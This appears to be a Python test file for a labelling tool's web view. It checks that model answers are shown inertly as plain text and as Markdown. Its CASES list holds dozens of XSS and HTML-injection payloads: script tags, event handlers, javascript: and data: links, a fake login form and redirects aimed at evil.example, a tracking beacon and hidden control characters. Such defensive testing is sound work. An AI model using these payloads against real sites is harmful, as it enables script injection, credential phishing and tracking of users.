"""Texts that would act in a careless page; they are shown as text and as Markdown, and must do nothing."""

from __future__ import annotations

from html.parser import HTMLParser

from kedge.data.examples import Message, Messages
from kedge.label.projects import Project, Settings
from kedge.label.work import Task
from kedge.web.desk import shown_task
from kedge.web.text import TAGS, markdown

PROJECT = Project(id=1, name="shop", questions={"thumb": {}}, settings=Settings(), secret="", guideline=1)


def says(text: str) -> Messages:
    return (Message("assistant", text),)


CASES = (
    "<script>window.acted=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>window.acted=1</script\n>",
    "<scr<script>ipt>window.acted=1</scr</script>ipt>",
    "</div></article></main><script>window.acted=1</script>",
    "</textarea><script>window.acted=1</script>",
    "</title></style></script><script>window.acted=1</script>",
    "<img src=x onerror=window.acted=1>",
    "<img src=x onerror=\"window.acted=1\" />",
    "<IMG \"\"\"><SCRIPT>window.acted=1</SCRIPT>\">",
    "<img src=`x` onerror=window.acted=1>",
    "<svg onload=window.acted=1>",
    "<svg/onload=window.acted=1//",
    "<svg><script>window.acted=1</script></svg>",
    "<svg><animate onbegin=window.acted=1 attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>\"/></svg>",
    "<math><mi//xlink:href=\"data:x,<script>window.acted=1</script>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.acted=1>",
    "<body onload=window.acted=1>",
    "<iframe src=javascript:window.acted=1>",
    "<iframe srcdoc='<script>parent.acted=1</script>'></iframe>",
    "<object data=javascript:window.acted=1>",
    "<embed src=javascript:window.acted=1>",
    "<form action=https://evil.example><input name=password><button>Log in</button></form>",
    "<button formaction=javascript:window.acted=1>x</button>",
    "<input autofocus onfocus=window.acted=1>",
    "<details open ontoggle=window.acted=1>",
    "<video><source onerror=window.acted=1>",
    "<audio src onerror=window.acted=1>",
    "<marquee onstart=window.acted=1>",
    "<a href=javascript:window.acted=1>x</a>",
    "<a href=\"&#x6A;avascript:window.acted=1\">x</a>",
    "<a href=\"java\tscript:window.acted=1\">x</a>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style=position:fixed;inset:0;background:red>covered</p>",
    "<p id=task class=task data-do=undo data-post=/logout>clobbered</p>",
    "<template><script>window.acted=1</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.acted=1>\">",
    "<!--><script>window.acted=1</script>-->",
    "<![CDATA[<script>window.acted=1</script>]]>",
    "<?xml version='1.0'?><script>window.acted=1</script>",
    "[x](javascript:window.acted=1)",
    "[x](JaVaScRiPt:window.acted=1)",
    "[x](data:text/html,<script>window.acted=1</script>)",
    "[x](vbscript:window.acted=1)",
    "[x](https://evil.example \"onmouseover=window.acted=1\")",
    "[x]: javascript:window.acted=1\n\n[x]",
    "![x](https://evil.example/beacon.gif)",
    "![x](x \"onerror=window.acted=1\")",
    "[![x](https://evil.example/a.gif)](javascript:window.acted=1)",
    "<https://evil.example/<script>window.acted=1</script>>",
    "<javascript:window.acted=1>",
    "```html\n<script>window.acted=1</script>\n```",
    "``` \"onmouseover=window.acted=1\nx\n```",
    "`<img src=x onerror=window.acted=1>`",
    "| <img src=x onerror=window.acted=1> |\n|---|\n| [x](javascript:window.acted=1) <script>window.acted=1</script> |",
    "# <svg onload=window.acted=1>\n> <script>window.acted=1</script>",
    "{{ 7 * 7 }}{% raw %}{{ config }}",
    "${window.acted=1} #{window.acted=1} <%= window.acted %>",
    "\u202ereversed\u202c \u2066isolated\u2069 hid\u200bden\x00 nul\x1b[2J",
)  # fmt: skip


class _Reader(HTMLParser):
    """Lists what a page would do that text does not do."""

    def __init__(self, allowed: frozenset[str], attributes: frozenset[str]) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.text = ""
        self._allowed, self._attributes = allowed, attributes

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self._allowed:
            self.problems.append(f"the tag <{tag}>")
        self.problems += [f"the attribute {name} of <{tag}>" for name, _ in attrs if name not in self._attributes]

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"the comment {data!r}")

    def handle_data(self, data: str) -> None:
        self.text += data


def attempt(case: str) -> str | None:
    """None where the text acts neither as text nor as Markdown; else what it did."""
    reader = _Reader(TAGS, frozenset())
    reader.feed(str(markdown(case)))
    reader.close()
    if reader.problems:
        return f"as Markdown: {reader.problems[0]}"
    task = Task(
        assignment="0", kind="thumb", prompt=(), answers=(says(case),), questions={}, guideline=1, leased_until=0
    )
    html = shown_task(PROJECT, task)["html"]
    html = html[html.index('<div class="text">') : html.index('<div class="markdown">')]
    plain = _Reader(frozenset({"div"}), frozenset({"class"}))
    plain.feed(html)
    plain.close()
    if plain.problems:
        return f"as text: {plain.problems[0]}"
    hidden = [letter for letter in "\u202e\u2066\u200b\x00\x1b" if letter in html or letter in str(markdown(case))]
    return f"{hidden[0]!a} was not written out" if hidden else None
